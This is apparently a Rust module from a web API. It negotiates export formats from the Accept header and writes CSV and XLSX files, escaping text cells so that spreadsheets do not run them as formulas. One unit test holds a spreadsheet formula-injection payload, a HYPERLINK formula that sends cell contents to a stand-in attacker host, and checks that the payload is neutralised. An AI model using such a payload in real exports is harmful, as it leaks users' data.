//! Tables for people and spreadsheets: the representation a client asks for (`format`, or
//! `Accept` as RFC 9110 weighs it), CSV (RFC 4180) and XLSX written from the same typed
//! [`Cell`]s. In CSV, a text cell goes through [`neutralise`] (no cell a spreadsheet runs as a
//! formula), numbers and dates are written as Essor formats them; in XLSX, a text cell is a
//! string cell, which no spreadsheet runs. Shared by the finance exports and a session's annex.

use std::borrow::Cow;

use actix_web::http::header;
use actix_web::{HttpRequest, HttpResponse};
use chrono::{Datelike, NaiveDate};
use rust_xlsxwriter::{ExcelDateTime, Format, FormatAlign, Workbook, XlsxError};
use serde::Deserialize;
use utoipa::ToSchema;

use crate::domain::spreadsheet::neutralise;
use crate::domain::{FieldCode, FieldError};
use crate::error::{ApiError, ApiResult};
use crate::text;

pub const CSV_CONTENT_TYPE: &str = "text/csv; charset=utf-8";

pub const XLSX_CONTENT_TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// The representation of an export: JSON (the default), CSV (RFC 4180, UTF-8, a header row,
/// integer cents) or XLSX (an Excel workbook: euros as numbers, dates as dates).
/// `Accept: text/csv` or `Accept: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet`
/// ask for them too; `format` wins over `Accept`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, ToSchema)]
#[serde(rename_all = "lowercase")]
pub enum ExportFormat {
    Json,
    Csv,
    Xlsx,
}

/// An XLSX workbook (Office Open XML spreadsheet), sent as an attachment.
#[derive(ToSchema)]
#[schema(value_type = String, format = Binary)]
pub struct XlsxWorkbook(pub Vec<u8>);

/// The `format` parameter, if given (a value that names no format is an error naming it).
pub fn check_format(errors: &mut Vec<FieldError>, format: Option<&str>) -> Option<ExportFormat> {
    match format? {
        "json" => Some(ExportFormat::Json),
        "csv" => Some(ExportFormat::Csv),
        "xlsx" => Some(ExportFormat::Xlsx),
        _ => {
            errors.push(FieldError::new("format", FieldCode::Invalid, text!("exports-format-json-csv-xlsx")));
            None
        }
    }
}

/// The representation to answer: `format` if given, else the one `Accept` prefers (see
/// [`preferred`]), else JSON (no `Accept`, a malformed one, or none of the three acceptable:
/// the header is then disregarded, as RFC 9110 §12.5.1 allows, rather than answered 406).
pub fn negotiate(req: &HttpRequest, format: Option<ExportFormat>) -> ExportFormat {
    if let Some(f) = format {
        return f;
    }
    let mut values = Vec::new();
    for value in req.headers().get_all(header::ACCEPT) {
        match value.to_str() {
            Ok(v) => values.push(v),
            Err(_) => return ExportFormat::Json,
        }
    }
    if values.is_empty() {
        return ExportFormat::Json;
    }
    // Several `Accept` lines are one list (RFC 9110 §5.3).
    preferred(&values.join(",")).unwrap_or(ExportFormat::Json)
}

/// What the exports offer, in the order a tie between them goes: (format, type, subtype).
const OFFERED: [(ExportFormat, &str, &str); 3] = [
    (ExportFormat::Json, "application", "json"),
    (ExportFormat::Csv, "text", "csv"),
    (ExportFormat::Xlsx, "application", "vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
];

/// `tchar`s only (RFC 9110 §5.6.2), at least one.
fn is_token(s: &str) -> bool {
    !s.is_empty() && s.bytes().all(|b| b.is_ascii_alphanumeric() || b"!#$%&'*+-.^_`|~".contains(&b))
}

/// The format an `Accept` header prefers, as RFC 9110 §12.5.1 says: each format takes the weight
/// of the most specific media range that matches it (`text/csv`, then `text/*`, then `*/*`; of
/// equally specific ones, the highest); `q=0` is "not acceptable"; the highest weight wins, a tie
/// going to the range listed first, then to JSON, CSV, XLSX in that order. Media type parameters
/// (`charset=…`) are ignored. `None` when none of the three is acceptable or the header is
/// malformed.
pub fn preferred(accept: &str) -> Option<ExportFormat> {
    // For each offered format: (specificity 1 to 3, weight in thousandths, position).
    let mut weights: [Option<(u8, u16, usize)>; 3] = [None; 3];
    for (at, element) in accept.split(',').enumerate() {
        let element = element.trim_matches([' ', '\t']);
        if element.is_empty() {
            continue; // RFC 9110 §5.6.1: empty list elements are allowed and ignored.
        }
        let mut parts = element.split(';');
        let range = parts.next()?.trim_end_matches([' ', '\t']);
        let (kind, subtype) = range.split_once('/')?;
        if !is_token(kind) || !is_token(subtype) || (kind == "*" && subtype != "*") {
            return None;
        }
        let mut q = 1000;
        for parameter in parts {
            let (name, value) = parameter.trim_matches([' ', '\t']).split_once('=')?;
            if !is_token(name) {
                return None;
            }
            if name.eq_ignore_ascii_case("q") {
                q = crate::domain::lang::parse_qvalue(value)?;
                break; // what follows the weight are extensions, ignored
            }
        }
        for (slot, (_, offered_kind, offered_subtype)) in weights.iter_mut().zip(OFFERED) {
            let specificity = if kind == "*" {
                1
            } else if !kind.eq_ignore_ascii_case(offered_kind) {
                continue;
            } else if subtype == "*" {
                2
            } else if subtype.eq_ignore_ascii_case(offered_subtype) {
                3
            } else {
                continue;
            };
            if slot.is_none_or(|(s, best, _)| specificity > s || (specificity == s && q > best)) {
                *slot = Some((specificity, q, at));
            }
        }
    }
    let mut chosen: Option<(ExportFormat, u16, usize)> = None;
    for ((format, _, _), weight) in OFFERED.into_iter().zip(weights) {
        let Some((_, q, at)) = weight.filter(|(_, q, _)| *q > 0) else { continue };
        if chosen.is_none_or(|(_, best, first)| q > best || (q == best && at < first)) {
            chosen = Some((format, q, at));
        }
    }
    chosen.map(|(format, _, _)| format)
}

/// RFC 4180 CSV (CRLF line ends), UTF-8: the header, then the rows (see [`write_csv_row`]).
pub fn csv_document(header: &[String], rows: &[Vec<Cell<'_>>]) -> ApiResult<Vec<u8>> {
    let mut writer = csv_writer(Vec::new());
    writer.write_record(header).map_err(|e| ApiError::internal_from("writing CSV", e))?;
    for row in rows {
        write_csv_row(&mut writer, row).map_err(|e| ApiError::internal_from("writing CSV", e))?;
    }
    writer.into_inner().map_err(|e| ApiError::internal("writing CSV", e))
}

/// A cell as a CSV field: text [`neutralise`]d, so that no spreadsheet runs it as a formula;
/// integers and cents as integers (`-5` is a number, not a formula), dates `YYYY-MM-DD`,
/// nothing as an empty field.
pub fn csv_field<'a>(cell: &Cell<'a>) -> Cow<'a, str> {
    match *cell {
        Cell::None | Cell::Date(None) => Cow::Borrowed(""),
        Cell::Text(text) => neutralise(text),
        Cell::Integer(n) | Cell::Cents(n) => Cow::Owned(n.to_string()),
        Cell::Hundredths(n) => {
            Cow::Owned(format!("{}{}.{:02}", if n < 0 { "-" } else { "" }, n.abs() / 100, n.abs() % 100))
        }
        Cell::Date(Some(date)) => Cow::Owned(date.to_string()),
    }
}

/// One CSV record from typed cells: the only way the exports write a row of data.
pub fn write_csv_row<W: std::io::Write>(writer: &mut csv::Writer<W>, cells: &[Cell<'_>]) -> csv::Result<()> {
    let fields: Vec<Cow<'_, str>> = cells.iter().map(csv_field).collect();
    writer.write_record(fields.iter().map(|f| f.as_bytes()))
}

/// A CSV writer as RFC 4180 says: CRLF, quotes where needed.
pub fn csv_writer<W: std::io::Write>(out: W) -> csv::Writer<W> {
    csv::WriterBuilder::new().has_headers(false).terminator(csv::Terminator::CRLF).from_writer(out)
}

/// `Content-Disposition: attachment; filename="…"`.
pub fn attachment(filename: &str) -> (header::HeaderName, String) {
    (header::CONTENT_DISPOSITION, format!("attachment; filename=\"{filename}\""))
}

/// A whole CSV document as an attachment.
pub fn csv_response(filename: &str, body: Vec<u8>) -> HttpResponse {
    HttpResponse::Ok()
        .insert_header((header::CONTENT_TYPE, CSV_CONTENT_TYPE))
        .insert_header(attachment(filename))
        .body(body)
}

/// A whole XLSX workbook as an attachment.
pub fn xlsx_response(filename: &str, body: Vec<u8>) -> HttpResponse {
    HttpResponse::Ok()
        .insert_header((header::CONTENT_TYPE, XLSX_CONTENT_TYPE))
        .insert_header(attachment(filename))
        .insert_header((header::VARY, "Accept"))
        .body(body)
}

fn xlsx_error(e: XlsxError) -> ApiError {
    ApiError::internal_from("writing XLSX", e)
}

/// How a column of an XLSX export shows its values.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Text,
    /// A count or a year: a whole number.
    Integer,
    /// Cents, shown as euros (`#,##0.00 "€"`).
    Euros,
    /// A date (`yyyy-mm-dd`).
    Date,
    /// A number with two decimals (`0.00`).
    Decimal,
}

/// A column of an XLSX export: its header, its kind, its width (in characters).
pub struct Column {
    pub name: String,
    pub kind: Kind,
    pub width: f64,
}

impl Column {
    pub fn new(name: impl Into<String>, kind: Kind, width: f64) -> Self {
        Self { name: name.into(), kind, width }
    }
}

/// A cell of an XLSX export; `None` and `Date(None)` leave the cell empty.
#[derive(Debug, Clone, Copy)]
pub enum Cell<'a> {
    None,
    Text(&'a str),
    Integer(i64),
    Cents(i64),
    /// A number with two decimals, given in hundredths (a weighted total of 55.25: 5525).
    Hundredths(i64),
    Date(Option<NaiveDate>),
}

/// An XLSX workbook of one worksheet, written row by row in constant memory: each finished
/// row goes to a temporary file, and only the row being written stays in memory. Typed
/// cells: numbers, euros as numbers (cents / 100) with a currency format, dates as dates; a
/// bold header row, frozen; set column widths.
pub struct Sheet {
    workbook: Workbook,
    formats: Vec<Format>,
    next_row: u32,
}

impl Sheet {
    pub fn new(name: &str, columns: &[Column]) -> ApiResult<Self> {
        let mut workbook = Workbook::new();
        let bold = Format::new().set_bold().set_align(FormatAlign::Center);
        let formats: Vec<Format> = columns
            .iter()
            .map(|c| match c.kind {
                Kind::Text => Format::new(),
                Kind::Integer => Format::new().set_num_format("0"),
                Kind::Euros => Format::new().set_num_format("#,##0.00 \"€\""),
                Kind::Date => Format::new().set_num_format("yyyy-mm-dd"),
                Kind::Decimal => Format::new().set_num_format("0.00"),
            })
            .collect();
        let sheet = workbook.add_worksheet_with_constant_memory().map_err(xlsx_error)?;
        sheet.set_name(name).map_err(xlsx_error)?;
        for (col, column) in (0u16..).zip(columns) {
            sheet.set_column_width(col, column.width).map_err(xlsx_error)?;
            sheet.write_string_with_format(0, col, &column.name, &bold).map_err(xlsx_error)?;
        }
        sheet.set_freeze_panes(1, 0).map_err(xlsx_error)?;
        Ok(Self { workbook, formats, next_row: 1 })
    }

    /// The next row: one cell per column, in order.
    pub fn row(&mut self, cells: &[Cell<'_>]) -> ApiResult<()> {
        let row = self.next_row;
        self.next_row += 1;
        let sheet = self.workbook.worksheet_from_index(0).map_err(xlsx_error)?;
        for ((col, cell), format) in (0u16..).zip(cells).zip(&self.formats) {
            match *cell {
                Cell::None | Cell::Date(None) => {}
                Cell::Text(s) => {
                    sheet.write_string_with_format(row, col, s, format).map_err(xlsx_error)?;
                }
                Cell::Integer(n) => {
                    sheet.write_number_with_format(row, col, n as f64, format).map_err(xlsx_error)?;
                }
                Cell::Hundredths(n) => {
                    sheet.write_number_with_format(row, col, n as f64 / 100.0, format).map_err(xlsx_error)?;
                }
                Cell::Cents(cents) => {
                    sheet
                        .write_number_with_format(row, col, cents as f64 / 100.0, format)
                        .map_err(xlsx_error)?;
                }
                Cell::Date(Some(d)) => {
                    let date = u16::try_from(d.year())
                        .ok()
                        .and_then(|y| ExcelDateTime::from_ymd(y, d.month() as u8, d.day() as u8).ok())
                        .ok_or_else(|| {
                            ApiError::internal("writing XLSX", format!("date out of range: {d}"))
                        })?;
                    sheet.write_datetime_with_format(row, col, &date, format).map_err(xlsx_error)?;
                }
            }
        }
        Ok(())
    }

    /// The finished workbook (a zip), in memory.
    pub fn finish(mut self) -> ApiResult<Vec<u8>> {
        let mut out = Vec::new();
        self.workbook.save_to_writer(&mut out).map_err(xlsx_error)?;
        Ok(out)
    }
}

#[cfg(test)]
mod tests {
    use super::ExportFormat::{Csv, Json, Xlsx};
    use super::*;

    #[test]
    fn csv_neutralises_text_cells_only() {
        let date = NaiveDate::from_ymd_opt(2026, 3, 12);
        let cells = [
            Cell::Text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")"),
            Cell::Text("-X"),
            Cell::Text("Les Ateliers Solidaires"),
            Cell::Integer(-5),
            Cell::Cents(-1_234_56),
            Cell::Hundredths(-5525),
            Cell::Date(date),
            Cell::Date(None),
            Cell::None,
        ];
        let header: Vec<String> = "abcdefghi".chars().map(String::from).collect();
        let body = csv_document(&header, &[cells.to_vec()]).unwrap();
        assert_eq!(
            String::from_utf8(body).unwrap(),
            "a,b,c,d,e,f,g,h,i\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"clic\"\")\",'-X,Les Ateliers Solidaires,-5,-123456,-55.25,2026-03-12,,\r\n"
        );
    }

    const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    #[test]
    fn q_zero_is_not_acceptable() {
        // Issue 20: `text/csv;q=0` answered CSV.
        assert_eq!(preferred("text/csv;q=0, application/json"), Some(Json));
        assert_eq!(preferred("text/csv;q=0"), None, "nothing acceptable: the caller answers JSON");
        assert_eq!(preferred(&format!("{XLSX};q=0.0, text/csv;q=0.001")), Some(Csv));
        assert_eq!(preferred("*/*, text/csv;q=0"), Some(Json));
        assert_eq!(preferred("text/*;q=0, */*"), Some(Json));
        assert_eq!(preferred("application/json;q=0, text/csv;q=0, */*"), Some(Xlsx));
    }

    #[test]
    fn the_highest_weight_wins() {
        assert_eq!(preferred(&format!("{XLSX};q=0.9, text/csv")), Some(Csv));
        assert_eq!(preferred(&format!("text/csv;q=0.5, {XLSX};q=0.8")), Some(Xlsx));
        assert_eq!(preferred("text/csv;q=0.5, application/json;q=0.6"), Some(Json));
        assert_eq!(
            preferred("text/html, application/xhtml+xml, application/xml;q=0.9, */*;q=0.8"),
            Some(Json)
        );
        assert_eq!(preferred("text/html"), None);
    }

    #[test]
    fn the_most_specific_range_gives_the_weight() {
        assert_eq!(preferred("text/*;q=0.9, text/csv;q=0.1, application/json;q=0.5"), Some(Json));
        assert_eq!(preferred("text/*"), Some(Csv));
        assert_eq!(preferred("application/*"), Some(Json));
        assert_eq!(preferred(&format!("application/*;q=0.5, {XLSX}")), Some(Xlsx));
        assert_eq!(preferred("*/*;q=0.1, text/csv;q=0.2"), Some(Csv));
    }

    #[test]
    fn ties_go_to_the_first_listed_then_to_json() {
        assert_eq!(preferred("text/csv, application/json"), Some(Csv));
        assert_eq!(preferred("application/json, text/csv"), Some(Json));
        assert_eq!(preferred("text/csv, */*"), Some(Csv));
        assert_eq!(preferred("*/*"), Some(Json));
        assert_eq!(preferred(&format!("{XLSX}, text/csv")), Some(Xlsx));
    }

    #[test]
    fn parameters_case_and_whitespace() {
        assert_eq!(preferred("TEXT/CSV ; charset=utf-8 ; Q=0.7 ,, application/json;q=0.6"), Some(Csv));
        assert_eq!(preferred("text/csv;q=0.5;level=1, application/json;q=0.4"), Some(Csv));
        assert_eq!(preferred("text/csv;q=1.000"), Some(Csv));
    }

    #[test]
    fn a_malformed_header_is_disregarded() {
        for header in [
            "text/csv;q=2",
            "text/csv;q=abc",
            "text/csv;q=",
            "csv",
            "*/csv",
            "text/csv;;",
            "text /csv",
            "é/csv",
        ] {
            assert_eq!(preferred(header), None, "{header:?}");
        }
    }
}
